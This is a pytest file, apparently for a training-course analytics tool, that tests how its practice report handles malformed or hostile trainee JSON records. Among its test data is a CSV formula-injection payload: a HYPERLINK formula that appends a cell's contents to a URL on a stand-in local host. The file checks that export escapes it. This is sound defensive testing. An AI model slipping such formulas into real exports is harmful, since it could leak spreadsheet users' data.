"""Exported practice records are the trainee's files: ``ipt-course report --practice DIR`` must survive them.

Attack round of 30 November 2026 (round 2). A record is JSON a trainee can write by hand. One file whose attempts
mixed a time with a zone and one without stopped the practice section for the whole cohort (``TypeError: can't
compare offset-naive and offset-aware datetimes``), as did an unknown problem area, criteria that are not pairs
and a criterion with one number. A record could name another trainee, and a name starting with ``=`` reached
``practice.csv`` as a spreadsheet formula. Honest records in the same folder keep their rows.
"""

from __future__ import annotations

import csv
import json
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from ipt_training.analytics.practice import practice_table
from ipt_training.analytics.report import add_practice_section
from ipt_training.analytics.spreadsheet import safe_cell
from ipt_training.practice.record import EXPORT_FORMAT, Attempt, PracticeRecord

T0 = datetime(2026, 3, 2, 9, tzinfo=timezone.utc)
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open my record")'


def _attempt(**changes: object) -> dict[str, object]:
    item = Attempt("p-03", "grief", ("death_vs_loss",), {"problem_area": (3.0, 3.0), "goals": (2.0, 2.0)}, 5.0, 5.0,
                   at=T0).to_dict()
    return {**item, **changes}


def _write(folder: Path, name: str, trainee: object, attempts: list[object]) -> None:
    payload = {"format": EXPORT_FORMAT, "trainee": trainee, "exported_at": T0.isoformat(), "attempts": attempts}
    (folder / name).write_text(json.dumps(payload), encoding="utf-8")


HOSTILE = {
    "unknown_area.json": [_attempt(reference_area="not_an_area")],
    "criteria_as_list.json": [_attempt(criteria=[["problem_area", 3, 3]])],
    "criterion_one_number.json": [_attempt(criteria={"problem_area": [3]})],
    "points_over_maximum.json": [_attempt(criteria={"problem_area": [300, 3]})],
    "not_a_number.json": [_attempt(total=float("nan"))],
    "attempts_not_a_list.json": {"p-03": _attempt()},
}


@pytest.fixture()
def folder(tmp_path: Path) -> Path:
    records = tmp_path / "records"
    records.mkdir()
    with PracticeRecord(tmp_path / "ana.sqlite") as record:
        for i in range(3):
            record.add(Attempt(("p-03", "p-13", "p-15")[i], "grief", (), {"problem_area": (3.0, 3.0)}, 5.0, 5.0,
                               at=T0 + timedelta(hours=i)))
        record.export(records / "ana.json", trainee="Ana")
    for name, attempts in HOSTILE.items():
        _write(records, name, name.removesuffix(".json"), attempts)  # type: ignore[arg-type]
    _write(records, "mallory_as_ana.json", "Ana", [_attempt()])
    _write(records, "formula.json", FORMULA, [_attempt()])
    _write(records, "timezone_less.json", "Ben", [_attempt(at="2026-03-03T09:00:00")])  # every time without a zone
    # A time with a zone beside one without (stopped the report): a time without a zone is read as UTC.
    _write(records, "naive_and_aware.json", "Cleo", [_attempt(), _attempt(case_id="p-13", at="2026-03-03T09:00:00")])
    return records


def test_one_hostile_record_costs_its_own_row_not_the_section(folder: Path) -> None:
    table, problems = practice_table(folder)
    assert sorted(table["trainee"]) == sorted(["Ana", "Ana", FORMULA, "Ben", "Cleo"])
    said = " | ".join(problems)
    for name in HOSTILE:
        assert f"{name}: the practice record could not be read" in said, (name, said)
    assert "Traceback" not in said and "offset-naive" not in said
    honest = table[table["trainee"] == "Ana"].iloc[0]
    assert honest["attempts"] == 3 and honest["mastery_grief"] > 0.5
    mixed = table.set_index("trainee").loc["Cleo"]
    assert mixed["attempts"] == 2 and mixed["last_practice"] == T0 + timedelta(days=1)


def test_two_records_naming_one_trainee_are_both_shown_and_said(folder: Path) -> None:
    _, problems = practice_table(folder)
    (same,) = [p for p in problems if "name the same trainee" in p]
    assert "ana.json" in same and "mallory_as_ana.json" in same and "“Ana”" in same


def test_a_name_that_is_a_formula_reaches_the_csv_as_text(folder: Path, tmp_path: Path) -> None:
    index = tmp_path / "report" / "index.html"
    index.parent.mkdir()
    index.write_text("<html><body><h2>Files</h2></body></html>", encoding="utf-8")
    add_practice_section(index, folder)
    with (index.parent / "practice.csv").open(newline="", encoding="utf-8") as handle:
        names = [row["trainee"] for row in csv.DictReader(handle)]
    assert "'" + FORMULA in names and FORMULA not in names and "Ana" in names
    page = index.read_text(encoding="utf-8")
    assert "name the same trainee" in page and "unknown_area.json" in page


def test_safe_cell_changes_only_what_a_spreadsheet_would_run() -> None:
    for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for value in ("Ana", "grief", "a-05", "", 3.5, -2, None, "O'Brien", "flagged by the grader: 15 rows"):
        assert safe_cell(value) == value
